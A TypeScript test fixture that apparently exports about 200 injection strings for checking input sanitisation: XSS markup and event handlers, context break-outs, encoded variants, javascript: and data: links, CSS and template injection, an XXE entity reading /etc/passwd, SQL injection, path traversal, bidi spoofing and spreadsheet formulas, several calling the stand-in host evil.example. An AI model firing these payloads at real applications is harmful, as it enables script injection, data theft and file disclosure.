import { seeded } from './seeded.ts';

/** What a payload would do if it ran: open a dialog, leave a mark, or ask for something from elsewhere. */
const act = 'alert(1),ran=1';
const far = 'http://evil.example/x';

const words = (text: string): readonly string[] => text.split(' ');
const handlers = [
  ...words('load error click focus toggle animationstart pointerenter beforeinput cut scrollend'),
  ...words('transitionend begin wheel copy paste input hashchange message'),
];
const tags = [
  ...words('script iframe object embed svg math style link base meta form video audio source template'),
  ...words('frameset marquee details portal dialog'),
];
/** Where a name could break out of what stands around it. */
const outs = ['"', "'", '`', '>', '">', "'>", '-->', ']]>', '</textarea>', '</title>', '</style>', '</p>'];
const schemes = [
  `javascript:${act}`,
  `JaVaScRiPt:${act}`,
  `java\tscript:${act}`,
  `\u0001javascript:${act}`,
  `data:text/html,<script>${act}</script>`,
  `data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==`,
  `vbscript:msgbox(1)`,
  'file:///etc/passwd',
  'blob:app://bundle/0',
  'app://bundle/index.html#/lock',
  far,
  '//evil.example/x',
];

/** 200 texts that try to become markup, script, style, link, template or another reading order; one line each. */
export const scriptPayloads = {
  markup: [
    ...tags.map((tag) => `<${tag} src=${far} href=${far} onload=${act}>${act}</${tag}>`),
    ...handlers.map((name) => `<img src=x on${name}=${act}>`),
    `<svg><script>${act}</script></svg>`,
    `<svg><animate onbegin=${act} attributeName=x></svg>`,
    `<math><mtext><table><mglyph><style><img src=x onerror=${act}>`,
    `<noscript><p title="</noscript><img src=x onerror=${act}>">`,
    `<input autofocus onfocus=${act}>`,
    `<a href=javascript:${act} id=ran>press</a>`,
    `<meta http-equiv=refresh content="0;url=${far}">`,
    `<link rel=preconnect href=${far}>`,
    `<iframe srcdoc="<script>${act}</script>"></iframe>`,
    `<template shadowrootmode=open><img src=x onerror=${act}></template>`,
    `<img src=x\u00a0onerror=${act}>`,
    `<img/src=x/onerror=${act}>`,
    `<<script>${act}//<</script>`,
    `<scr<script>ipt>${act}</scr</script>ipt>`,
    `<ſcript>${act}</ſcript>`,
    `＜script＞${act}＜/script＞`,
  ],
  breaksOut: [
    ...outs.map((out) => `${out}<img src=x onerror=${act}>`),
    ...outs.slice(0, 6).map((out) => `${out} onmouseover=${act} x=${out}`),
    `";${act};"`,
    `';${act};'`,
    `\`;${act};\``,
    `\${${act}}`,
    `\\";${act};//`,
    `</script><script>${act}</script>`,
    `*/${act}/*`,
    `//${act}`,
  ],
  encoded: [
    `&lt;script&gt;${act}&lt;/script&gt;`,
    `&#60;img src=x onerror=${act}&#62;`,
    `&#x3c;script&#x3e;${act}`,
    `%3Cscript%3E${act}%3C/script%3E`,
    `\\u003cscript\\u003e${act}`,
    `\\x3cscript\\x3e${act}`,
    '+ADw-script+AD4-alert(1)+ADw-/script+AD4-',
    `&amp;lt;script&amp;gt;`,
    `&NewLine;&Tab;<b>`,
    '&nbsp;&copy;&notanentity;',
    '%253Cscript%253E',
    '\\u{3c}script\\u{3e}',
    '&lt;!--#exec cmd="id"--&gt;',
    '<?xml version="1.0"?><?php phpinfo(); ?>',
    '<![CDATA[<img src=x>]]>',
    '<!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]>&e;',
    '<!--[if IE]><script>alert(1)</script><![endif]-->',
  ],
  links: [
    ...schemes,
    ...schemes.map((scheme) => `[press](${scheme})`),
    ...schemes.slice(0, 6).map((scheme) => `<${scheme}>`),
    `![picture](${far})`,
    `[x]: ${far}`,
  ],
  style: [
    `x;background:url(${far})`,
    `"; } body { display: none } @import url(${far}); "`,
    `'; content: url(${far})`,
    `</style><style>@import '${far}'</style>`,
    `expression(${act})`,
    `-moz-binding:url(${far})`,
    `\\22 ; content: url(${far})`,
    `@font-face{font-family:x;src:url(${far})}`,
    '*{display:none!important}',
    '/* */ @page { size: 1mm } /* */',
  ],
  template: [
    '{{7*7}}',
    '{{ practice }}',
    '{{ patient.family }}',
    '{{constructor.constructor("alert(1)")()}}',
    '{{#with "x" as |y|}}{{y}}{{/with}}',
    '{% for i in (1..99999) %}x{% endfor %}',
    '{% raw %}{{x}}{% endraw %}',
    '{% include "/etc/passwd" %}',
    '{% assign x = 1 %}{{ x }}',
    '{%- comment -%}gone{%- endcomment -%}',
    '${7*7}',
    '#{7*7}',
    '<%= 7*7 %>',
    '[[7*7]]',
    '*{7*7}',
    '@(7*7)',
    '{name, plural, one {x} other {y}}',
    "'{'quoted'}'",
    '<b>{x}</b>',
    '{0}',
    '$& $1 $$ $`',
    '%s %d %n',
  ],
  markdown: [
    '**bold** _it_ `code` ~~gone~~',
    '# heading',
    '- list',
    '1. list',
    '> quote',
    '| a | b |',
    '---',
    '    indented code',
    '```fence```',
    '<!-- gone -->',
    '\\*escaped\\*',
    '[^1]: note',
  ],
  spelling: [
    '\u202egnp.exe',
    'a\u202eevil\u202cb',
    '\u2066left\u2069\u2069\u2069',
    '\u2068\u2067first\u2069',
    'zero\u200bwidth\u200djoin\u2060er',
    'Аdaeze Оkonkwo',
    'e\u0301\u0301\u0301\u0301\u0301\u0301',
    'next\u0085line\u2028sep\u2029end',
    'b\u0008e\u0007l\u001b[31mred',
    '\ufeffmark',
    '__proto__',
    'constructor',
    'hasOwnProperty',
    'undefined',
    'null',
    'NaN',
    '-0',
    '1e309',
    "Robert'); drop table patients;--",
    '" OR 1=1 --',
    'NEAR(a b) col:x a*',
    '%_%',
    '../../etc/passwd',
    'CON',
    'C:\\x\\y',
    '=1+1',
    '@SUM(A1)',
    '👩‍👩‍👧‍👦',
  ],
} as const satisfies Record<string, readonly string[]>;

/** All of them in one list. */
export const allPayloads: readonly string[] = Object.values(scriptPayloads).flat();

/** Two texts of each group, the same for the same seed. */
export const twoOfEach = (seed: number): readonly string[] => {
  const random = seeded(seed);
  const anyOf = (group: readonly string[]): string => group[Math.floor(random() * group.length)] ?? '';
  return [...new Set(Object.values(scriptPayloads).flatMap((group) => [anyOf(group), anyOf(group)]))];
};
